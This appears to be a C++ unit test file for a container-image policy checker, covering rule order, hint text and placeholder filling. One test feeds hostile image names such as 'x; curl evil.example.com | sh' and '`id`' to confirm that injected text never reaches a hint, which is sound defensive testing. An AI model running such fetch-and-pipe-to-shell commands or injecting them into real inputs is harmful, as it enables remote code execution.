#include "policy/rules/rule.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "absl/strings/str_cat.h"
#include "tests/policy/rules/rule_input.h"

namespace plimsoll {
namespace {

using testing::ElementsAre;

constexpr char kNameKey[] = "org.opencontainers.image.base.name";

// A rule that fails for every image that sets no user.
Rule NonRoot(std::string hint) {
  return {"non-root", ParamsOf("config.user", "{forbidRoot: true}"),
          {},         {},
          "medium",   std::move(hint)};
}

CheckOutput RunOn(const Rule& rule, const ImageEvidence& image) {
  const Evidence evidence = Pushed(image);
  return CheckRule(rule, {evidence, &evidence.images[0], Now()});
}

ImageEvidence OnDebian() {
  const TestImage debian = ImageBuilder().Layer("debian").Build();
  return EvidenceOf(ImageBuilder(debian).Layer("app").Build(),
                    {RecordOf(debian, {"docker.io/library/debian:12"})});
}

ImageEvidence Claiming(absl::string_view name) {
  return EvidenceOf(
      ImageBuilder().Layer("app").Annotation(kNameKey, name).Build(), {});
}

TEST(Checks, AreTheseInThisOrder) {
  EXPECT_THAT(CheckIds(),
              ElementsAre("base.identified", "base.approved", "base.denied",
                          "base.pinned", "base.age", "vulnerabilities",
                          "config.user", "config.labels", "image.size",
                          "platform", "manifest.format"));
}

TEST(Checks, FlipWithoutAChangeOfBytesWhereTimeCounts) {
  const std::string vulnerabilities =
      "{scope: base, maxReportAge: 1d, deny: [{kev: true}]}";
  EXPECT_TRUE(TraitsOf(ParamsOf("base.age", "{max: 1d}")).flips);
  EXPECT_TRUE(TraitsOf(ParamsOf("vulnerabilities", vulnerabilities)).flips);
  EXPECT_FALSE(TraitsOf(ParamsOf("base.approved", "{}")).flips);
  EXPECT_FALSE(TraitsOf(ParamsOf("manifest.format", "{}")).per_image);
  EXPECT_FALSE(
      TraitsOf(ParamsOf("platform", "{allow: [linux/amd64]}")).per_image);
}

TEST(Checks, HasNoneOfAnotherName) {
  YamlValue mapping;
  mapping.kind = YamlValue::Kind::kMapping;
  Issues issues;
  YamlFields with(mapping, "", issues);
  EXPECT_EQ(ParseCheck("base.eol", with), std::nullopt);
  EXPECT_EQ(ParseCheck("", with), std::nullopt);
}

TEST(CheckRule, PutsTheRulesOwnHintInPlaceOfTheChecks) {
  EXPECT_EQ(RunOn(NonRoot(""), OnDebian()).hint,
            "set a user other than root by its number, such as USER 10001");
  EXPECT_EQ(
      RunOn(NonRoot("see https://wiki.example.com/non-root"), OnDebian()).hint,
      "see https://wiki.example.com/non-root");
  ImageEvidence image = OnDebian();
  image.config.user = "1000";
  EXPECT_EQ(RunOn(NonRoot("see the wiki"), image).hint, "");
}

TEST(CheckRule, FillsThePlaceholdersIn) {
  const ImageEvidence image = OnDebian();
  EXPECT_EQ(
      RunOn(NonRoot("{{base.name}}, {{base.suggested}} of {{image.digest}} {{"),
            image)
          .hint,
      absl::StrCat("docker.io/library/debian:12, docker.io/library/debian:12@",
                   image.base.digest->ToString(), " of ",
                   image.digest.ToString(), " {{"));
}

TEST(CheckRule, KeepsTheChecksHintWhereAPlaceholderHasNoValue) {
  EXPECT_EQ(
      RunOn(NonRoot("write FROM {{base.suggested}}"), Claiming("debian:12"))
          .hint,
      "set a user other than root by its number, such as USER 10001");
  EXPECT_EQ(
      RunOn(NonRoot("not FROM {{base.name}}"), Claiming("debian:12")).hint,
      "not FROM docker.io/library/debian:12");
}

TEST(CheckRule, PutsNoTextOfThePusherIntoAHint) {
  for (const char* name : {"x; curl evil.example.com | sh", "a\nb", "`id`"}) {
    EXPECT_EQ(
        RunOn(NonRoot("run crane digest {{base.name}}"), Claiming(name)).hint,
        "set a user other than root by its number, such as USER 10001");
  }
}

TEST(CheckRule, NamesTheSubjectWhereTheCheckIsAboutNoSingleImage) {
  const Rule rule{"platforms", ParamsOf("platform", "{require: [linux/arm64]}"),
                  {},          {},
                  "medium",    "crane manifest {{image.digest}}"};
  const Evidence evidence = Pushed(OnDebian());
  EXPECT_EQ(
      CheckRule(rule, {evidence, nullptr, Now()}).hint,
      absl::StrCat("crane manifest ", evidence.subject.digest.ToString()));
}

TEST(CheckRule, LooksAtTheConfigOfItsOwnImageOnly) {
  ImageEvidence unread = OnDebian();
  unread.gaps.push_back({Gap::Kind::kConfig, "", "a\r\nb", true});
  const Evidence evidence = PushedIndex({unread, OnDebian()});
  const Rule rule = NonRoot("");
  const CheckOutput first =
      CheckRule(rule, {evidence, &evidence.images[0], Now()});
  EXPECT_EQ(first.result, CheckResult::kError);
  EXPECT_EQ(first.message, "the image's config cannot be read: a??b");
  EXPECT_EQ(first.hint, "push again");
  EXPECT_TRUE(first.pending);
  EXPECT_EQ(CheckRule(rule, {evidence, &evidence.images[1], Now()}).result,
            CheckResult::kFail);
}

TEST(UnknownPlaceholder, FindsTheFirst) {
  EXPECT_EQ(UnknownPlaceholder(""), "");
  EXPECT_EQ(UnknownPlaceholder("{{base.name}} {{image.digest}}"), "");
  EXPECT_EQ(UnknownPlaceholder("{{base.name}} {{base.tag}} {{x}}"),
            "{{base.tag}}");
  EXPECT_EQ(UnknownPlaceholder("{{ base.name }}"), "{{ base.name }}");
  EXPECT_EQ(UnknownPlaceholder("{{base.name"), "{{base.name");
}

}  // namespace
}  // namespace plimsoll
